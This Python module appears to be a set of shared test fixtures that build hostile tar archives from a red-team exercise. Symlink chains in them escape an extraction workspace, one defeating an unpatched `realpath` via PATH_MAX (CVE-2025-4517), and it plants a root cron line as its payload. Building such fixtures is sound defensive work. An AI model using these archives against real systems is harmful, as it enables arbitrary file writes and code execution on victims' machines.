"""Hostile ``--workdir`` snapshots (red-team 2026-11-26), shared by the unit and e2e tests.

Each archive, unpacked by ``tarfile.extractall`` after DLC's old string checks, writes a file
named :data:`PLANTED` into the workspace's parent folder.
"""

from __future__ import annotations

import io
import tarfile

PLANTED = "planted-by-snapshot"
PATH_MAX = 4096
STEPS = "abcdefghijklmnop"  # 16 directory links


def archive(*members: tuple[tarfile.TarInfo, bytes | None]) -> bytes:
    """A tar.gz of ``(header, data)`` pairs, in order (data ``None``: no body)."""
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, data in members:
            if data is not None:
                info.size = len(data)
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return buffer.getvalue()


def entry(name: str, kind: bytes = tarfile.REGTYPE, link: str = "") -> tarfile.TarInfo:
    """A header: a file by default, or ``kind`` with ``link`` as its target."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname, info.mode = kind, link, 0o755
    return info


def link_chain_escape(workspace_len: int) -> bytes:
    """16 directory links, a link at their end back up 16 levels, then ``escape`` -> its parent.

    ``escape`` reads ``a/b/.../p/lll../..``: inside on paper; on disk the chain is 16 long
    folders deep and the last link climbs 16 levels, so ``escape`` is the workspace's parent.
    The folder names are sized from ``workspace_len`` so that the expanded path passes
    ``PATH_MAX``: a ``realpath`` without the CVE-2025-4517 fix stops expanding there and
    passes ``escape/PLANTED``, which the kernel then writes outside.
    """
    component = "d" * ((PATH_MAX - workspace_len - 1) // (len(STEPS) + 1))
    members: list[tuple[tarfile.TarInfo, bytes | None]] = []
    path = ""
    for step in STEPS:
        members.append((entry(f"{path}{component}", tarfile.DIRTYPE), None))
        members.append((entry(f"{path}{step}", tarfile.SYMTYPE, component), None))
        path += component + "/"
    last = "/".join(STEPS) + "/" + "l" * 254
    members.append((entry(last, tarfile.SYMTYPE, "/".join([".."] * len(STEPS))), None))
    members.append((entry("escape", tarfile.SYMTYPE, last + "/.."), None))
    members.append((entry(f"escape/{PLANTED}"), b"* * * * * root sh -c 'id > /tmp/owned'\n"))
    return archive(*members)


def dot_link_escape() -> bytes:
    """``d1 -> .``, ``d1/d2 -> ..`` (the workspace's parent on disk), then a file through it."""
    return archive(
        (entry("d1", tarfile.SYMTYPE, "."), None),
        (entry("d1/d2", tarfile.SYMTYPE, ".."), None),
        (entry(f"d1/d2/{PLANTED}"), b"planted\n"),
    )


def late_link_escape() -> bytes:
    """The same in the other order: ``up -> d1/..`` first, ``d1 -> .`` after, then a file."""
    return archive(
        (entry("up", tarfile.SYMTYPE, "d1/.."), None),
        (entry("d1", tarfile.SYMTYPE, "."), None),
        (entry(f"up/{PLANTED}"), b"planted\n"),
    )
